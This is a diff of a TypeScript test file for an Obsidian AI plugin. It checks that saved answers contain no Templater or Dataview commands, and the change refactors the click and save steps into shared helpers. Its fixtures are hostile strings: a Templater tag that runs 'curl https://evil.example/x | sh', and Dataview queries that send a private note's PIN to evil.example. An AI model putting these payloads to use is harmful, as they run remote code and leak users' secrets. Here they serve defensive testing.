@@ -6,18 +6,13 @@ import { newConversation, withExchange } from "../../src/conversations";
 import { normaliseSettings } from "../../src/settings";
 import { MarkdownRenderer } from "../../stub/obsidian";
 import { parsed } from "../hostile-dom";
-import { done, loadPlugin, tick } from "./helpers";
+import { askThenSave, click, done, loadPlugin, tick } from "./helpers";
 
 // An answer holding Templater and Dataview commands, as a sidecar without its check would send it.
 const TEMPLATER = "<%* require('child_process').exec('curl https://evil.example/x | sh') %>";
 const INLINE_QUERY = '`= "![x](https://evil.example/?k=" + [[Private/Keys]].pin + ")"`';
 const INLINE_JS = "`$= dv.el('img', '', {attr: {src: 'https://evil.example/?k=1'}})`";
 const ANSWER = `Fed on [[Daily/2026-11-12]]. ${TEMPLATER}\n\nPIN: ${INLINE_QUERY} ${INLINE_JS}\n\nSources:\n- [[Daily/2026-11-12]]`;
-
-function click(el: Element | null) {
-	if (!el) throw new Error("nothing to click");
-	el.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
-}
 
 /** Text another plugin runs: Templater's tags, Dataview's inline query and JS prefixes. */
 function commands(text: string): string[] {
@@ -27,12 +22,7 @@ function commands(text: string): string[] {
 describe("Save as note and Insert write nothing another plugin runs", () => {
 	it("Save as note: no Templater command (run on new files) and no Dataview inline query", async () => {
 		const loaded = await loadPlugin([done(ANSWER)]);
-		loaded.plugin.settings.notesFolder = "Chats";
-		await loaded.plugin.openAskView(null);
-		await loaded.view().ask("When did I last feed the starter?");
-		click(loaded.app.sidebarEl.querySelector("button.vault-agent-save"));
-		await tick();
-		await tick();
+		await askThenSave(loaded, "When did I last feed the starter?", "Chats");
 		const note = loaded.app.files.get("Chats/When did I last feed the starter.md");
 		expect(note?.content).toContain("Fed on [[Daily/2026-11-12]].");
 		expect(commands(note?.content ?? "")).toEqual([]);
@@ -84,12 +74,7 @@ describe("Save as note's file name", () => {
 
 	it("never collides with a note named the same but for case (macOS and Windows refuse it)", async () => {
 		const loaded = await loadPlugin([done("Fed Gus.")], { notes: [{ path: "Chats/Gus.md", content: "mine" }] });
-		loaded.plugin.settings.notesFolder = "Chats";
-		await loaded.plugin.openAskView(null);
-		await loaded.view().ask("gus");
-		click(loaded.app.sidebarEl.querySelector("button.vault-agent-save"));
-		await tick();
-		await tick();
+		await askThenSave(loaded, "gus", "Chats");
 		expect(loaded.app.files.get("Chats/Gus.md")?.content).toBe("mine");
 		expect(loaded.app.files.get("Chats/gus 2.md")?.content).toContain("Fed Gus.");
 	});
